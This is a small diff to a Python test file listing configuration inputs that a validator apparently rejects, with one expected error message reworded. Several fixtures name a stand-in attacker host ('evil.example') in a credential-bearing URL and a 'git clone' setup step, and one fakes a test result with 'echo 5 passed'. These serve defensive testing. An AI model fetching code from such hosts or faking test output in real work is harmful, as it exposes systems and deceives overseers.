@@ -39,7 +39,7 @@ def make_tests(suite=None, *, passed: int) -> TestRun:
         ("env: {A: 'http://ada:b@evil.example/'}", "evil.example"),
         ("setup: ['git clone ssh://evil.example/x']", "evil.example"),
         ("django: {manage: /etc/manage.py}", "not a path in the repository"),
-        ("django: {manage: missing.py}", "no such file"),
+        ("django: {manage: missing.py}", "not in the repository"),
         ("checks: {tests: echo 5 passed}", "a call of pytest"),
         ("checks: {tests: off}", "a call of pytest"),
         ("scope: {protect: []}", "scope"),
